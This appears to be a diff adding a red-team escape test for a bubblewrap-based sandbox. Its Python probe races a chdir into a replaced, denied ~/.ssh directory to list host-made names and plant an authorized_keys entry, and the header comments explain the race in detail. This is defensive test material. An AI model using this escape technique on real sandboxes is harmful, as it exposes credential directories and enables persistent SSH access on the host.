@@ -1,0 +1,112 @@
+#!/bin/bash
+# Escape class H1 (linux-bwrap), red team: the moment between the host's
+# replacement of a denied directory and the watcher's new cover. 0954's
+# fix covers the new directory at ~/.ssh again, but a cover is a mount on
+# the name's dentry: a process whose working directory is already the new
+# directory stays below it. The command spins on chdir(~/.ssh) (chdir is
+# no call the seccomp monitor sees; the cover's tmpfs, mode 0000, refuses
+# it until the host swaps): the host's `mv ~/.ssh ~/.ssh.old; mkdir ~/.ssh`
+# leaves the new directory bare until the watcher mounts its cover, and
+# the spin gets in within that moment (7 of 8 single swaps here; the host
+# swaps up to 10 times below, a rotation tool run again). From then on,
+# for the whole run, whatever the host puts in the new ~/.ssh is:
+#  - stat-able by its name relative to ".", and reported live by an
+#    inotify watch on "." (inotify_add_watch is not judged either): its
+#    names, sizes, times; opens by path are still refused by the monitor;
+#  - writable when ~/.ssh lies in a write root (allowWrite "~"): a write
+#    open is not judged (the monitor reports it and lets it go on), and
+#    "." is on the writable bind of ~, below the cover: the command
+#    plants ~/.ssh/authorized_keys on the host, and the run's summary says
+#    "deny openat .../authorized_keys" although the write happened.
+. "$(dirname "$0")/lib.sh"
+need_bwrap
+P="$WORK/proj"
+cd "$P" || exit 1
+
+cat > "$WORK/probe.py" <<'PYEOF'
+import os, sys, time
+p, mode = sys.argv[1], sys.argv[2]
+ssh = os.path.join(os.environ["HOME"], ".ssh")
+open(p + "/ready", "w").close()
+inside = False
+end = time.time() + 12
+while not inside and time.time() < end and not os.path.exists(p + "/gave-up"):
+    for _ in range(2000):
+        try:
+            os.chdir(ssh)
+            inside = True
+            break
+        except OSError:
+            pass
+res = open(p + "/res", "a")
+if inside:
+    open(p + "/in", "w").close()
+    res.write("inside\n")
+for i in range(200):
+    if os.path.exists(p + "/written"):
+        break
+    time.sleep(0.05)
+try:
+    os.stat(ssh + "/host-made-name")
+except OSError:
+    res.write("full-path-covered\n")
+if inside:
+    try:
+        os.stat("host-made-name")
+        res.write("stat-sees-name\n")
+    except OSError:
+        pass
+    try:
+        res.write(open("host-made-name").read())
+    except OSError:
+        pass
+    if mode == "write":
+        try:
+            fd = os.open("authorized_keys", os.O_WRONLY | os.O_CREAT, 0o600)
+            os.write(fd, b"ssh-ed25519 AAAA planted-by-the-command\n")
+            os.close(fd)
+            res.write("planted\n")
+        except OSError:
+            pass
+res.write("done\n")
+PYEOF
+
+for mode in names write; do
+	rm -rf "$HOME"/.ssh* "$P/ready" "$P/in" "$P/gave-up" "$P/written" "$P/res"
+	mkdir -p "$HOME/.ssh"
+	echo "$CANARY" > "$HOME/.ssh/id_canary"
+	if [ "$mode" = write ]; then
+		S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":[".","~"],"denyWrite":[]}')
+	else
+		S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":["."],"denyWrite":[]}')
+	fi
+	srt__bg -s "$S" -c "$PY $WORK/probe.py $P $mode"
+	pid=$!
+	wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
+	sleep 0.3
+	swaps=0
+	for i in $(seq 10); do
+		swaps=$i
+		mv "$HOME/.ssh" "$HOME/.ssh.old$i"
+		mkdir "$HOME/.ssh"
+		wait_for "$P/in" 3 && break
+	done
+	wait_for "$P/in" 5 || touch "$P/gave-up"
+	sleep 0.5 # the watcher's cover is on the new ~/.ssh by now
+	echo "SECRET-$CANARY" > "$HOME/.ssh/host-made-name"
+	touch "$P/written"
+	for i in $(seq 150); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
+	kill "$pid" 2>/dev/null
+	wait "$pid"
+	diag "$mode, $swaps swaps: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
+	diag "summary: $(grep deny "$WORK/bg.out" | tr '\n' ' ')"
+	attempt H1 "cwd in a replaced denied ~/.ssh before its cover ($mode): the probe ran to its end" \
+		grep -qx done "$P/res"
+	attempt H1 "cwd in a replaced denied ~/.ssh before its cover ($mode): no name the host puts there later is seen" \
+		sh -c "! grep -q stat-sees-name '$P/res'"
+	attempt H1 "cwd in a replaced denied ~/.ssh before its cover ($mode): no file of it is read" \
+		no_leak "$P/res"
+	attempt H1 "cwd in a replaced denied ~/.ssh before its cover ($mode): nothing is written into it on the host" \
+		test ! -e "$HOME/.ssh/authorized_keys"
+done
+echo "1..$_tap_n"
